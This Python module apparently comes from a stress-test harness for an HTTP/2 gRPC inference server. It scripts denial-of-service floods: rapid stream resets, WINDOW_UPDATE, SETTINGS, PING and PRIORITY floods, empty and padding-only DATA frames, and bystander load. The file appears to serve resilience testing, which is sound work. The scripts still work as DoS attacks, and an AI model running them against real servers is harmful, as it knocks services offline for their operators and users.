"""Attacks with frames that cost nothing to send: resets, windows, PING, SETTINGS, empty DATA."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable

from bench.siege.attack import ATTACKER, Attack
from bench.siege.header_attacks import SMALL
from bench.siege.messages import repeating, tensor
from bench.siege.wire import Connection, Script, dataframes, framed, head, headers
from mesh.h2 import frames
from mesh.h2.frames import Reason

THEIRS = framed(tensor("small", "FP32", [1, 4], bytes(16)))
SLOW = framed(tensor("slow", "FP32", [1, 4], bytes(16)))


def _resets(body: bytes) -> Callable[[Connection], Script]:
    """Open, call, reset: 100 at a time."""

    def script(connection: Connection) -> Script:
        block = head(tenant=ATTACKER)
        while True:
            parts = []
            for _ in range(100):
                number, opening = connection.open(block)
                connection.forget(number)
                parts += [
                    opening,
                    dataframes(number, body, frames.END_STREAM),
                    frames.rst_stream(number, Reason.CANCEL),
                ]
            connection.tally["resets"] += 100
            yield b"".join(parts)

    return script


def _answered_resets(connection: Connection) -> Script:
    """Reset ten calls for each that is answered."""
    block = head(tenant=ATTACKER)
    while True:
        parts = []
        for n in range(100):
            number, opening = connection.open(block)
            parts += [opening, dataframes(number, SMALL, frames.END_STREAM)]
            if n % 10:
                connection.forget(number)
                parts.append(frames.rst_stream(number, Reason.CANCEL))
        connection.tally["resets"] += 90
        yield b"".join(parts)
        yield from connection.fewer(200)


def _waiting(connection: Connection, calls: int) -> Script:
    """Make calls whose responses wait, since the client opens no window."""
    block = head(tenant=ATTACKER)
    for _ in range(min(calls, connection.max_streams)):
        connection.tally["calls"] += 1
        yield from connection.call(block, SMALL)


def _windows(connection: Connection) -> Script:
    yield from _waiting(connection, 2000)
    # A byte for each of the waiting responses in turn.
    for _ in itertools.count():
        flood = b"".join(frames.window_update(number, 1) for number in sorted(connection.streams)[:1000])
        connection.tally["frames"] += len(flood) // 13
        yield flood or None


def _connection_windows(connection: Connection) -> Script:
    yield from _waiting(connection, 2000)
    flood = frames.window_update(0, 1) * 4000
    while True:
        connection.tally["frames"] += 4000
        yield flood


def _settings(connection: Connection) -> Script:
    yield from _waiting(connection, 2000)
    flood = b"".join(frames.settings({frames.WINDOW_SIZE: size}) for size in range(2)) * 1000
    while True:
        connection.tally["frames"] += 2000
        yield flood


def _flood(frame: bytes, count: int = 4000) -> Callable[[Connection], Script]:
    def script(connection: Connection) -> Script:
        while True:
            connection.tally["frames"] += count
            yield frame * count

    return script


def _reset_streams(connection: Connection) -> Script:
    # A task for each.
    block = head(b"/inference.GRPCInferenceService/ModelStreamInfer", tenant=ATTACKER)
    while True:
        parts = []
        for _ in range(100):
            number, opening = connection.open(block)
            connection.forget(number)
            parts += [opening, frames.rst_stream(number, Reason.CANCEL)]
        connection.tally["resets"] += 100
        yield b"".join(parts)


def _empty_data(connection: Connection) -> Script:
    number, opening = connection.open(head(tenant=ATTACKER))
    yield opening
    flood = frames.frame(frames.DATA, 0, number) * 4000
    while number in connection.streams:
        connection.tally["frames"] += 4000
        yield flood


def _padding(connection: Connection) -> Script:
    # DATA of padding only: each frame is flow-controlled, and brings nothing.
    number, opening = connection.open(head(tenant=ATTACKER))
    yield opening
    frame = frames.frame(frames.DATA, frames.PADDED, number, b"\xff" + bytes(255))
    while number in connection.streams:
        if connection.take(number, 64 * 256):
            connection.tally["frames"] += 64
            yield frame * 64
        else:
            yield None


def _late_data(connection: Connection) -> Script:
    # DATA for a stream that has ended.
    block = head(b"/none", tenant=ATTACKER)
    number, opening = connection.open(block)
    yield opening + dataframes(number, SMALL, frames.END_STREAM)
    while connection.streams:
        yield None
    flood = headers(number, block) * 200
    while True:
        connection.tally["frames"] += 200
        yield flood


ATTACKS = (
    Attack("rapid-reset", "calls that are reset at once", _resets(SMALL)),
    Attack("rapid-reset-slow", "calls of a slow model that are reset at once", _resets(SLOW)),
    Attack("rapid-reset-streams", "streams that are reset at once", _reset_streams),
    Attack("answered-resets", "ten resets for each response", _answered_resets),
    Attack("windows", "WINDOW_UPDATE by 1 for 2,000 waiting responses", _windows, settings={frames.WINDOW_SIZE: 0}),
    Attack(
        "windows-0",
        "WINDOW_UPDATE of the connection, 2,000 waiting responses",
        _connection_windows,
        settings={frames.WINDOW_SIZE: 0},
    ),
    Attack("settings", "SETTINGS that change 2,000 windows", _settings, settings={frames.WINDOW_SIZE: 0}),
    Attack(
        "settings-full",
        "SETTINGS of 16 KiB without a known one",
        _flood(frames.settings(dict.fromkeys(range(16, 16 + 2730), 1)), 64),
    ),
    Attack("settings-ack", "acknowledgements of SETTINGS", _flood(frames.frame(frames.SETTINGS, frames.ACK, 0))),
    Attack("ping", "PING", _flood(frames.frame(frames.PING, 0, 0, b"siege..."))),
    Attack("ping-64", "PING on 64 connections", _flood(frames.frame(frames.PING, 0, 0, b"siege...")), connections=64),
    Attack("priority", "PRIORITY", _flood(frames.frame(frames.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)))),
    Attack("unknown-frames", "frames of an unknown type", _flood(frames.frame(0xBE, 0, 0, b""))),
    Attack("empty-data", "empty DATA frames", _empty_data),
    Attack("padding", "DATA of padding only", _padding),
    Attack("late-headers", "HEADERS of a stream that has ended", _late_data),
    repeating(
        "calls",
        "calls of the bystanders' model, 16 in flight on each connection",
        lambda: THEIRS,
        in_flight=16,
        connections=64,
    ),
    repeating(
        "calls-2048",
        "calls of the bystanders' model beyond its queue",
        lambda: THEIRS,
        in_flight=1000,
        fills_own_queue=True,
    ),
)
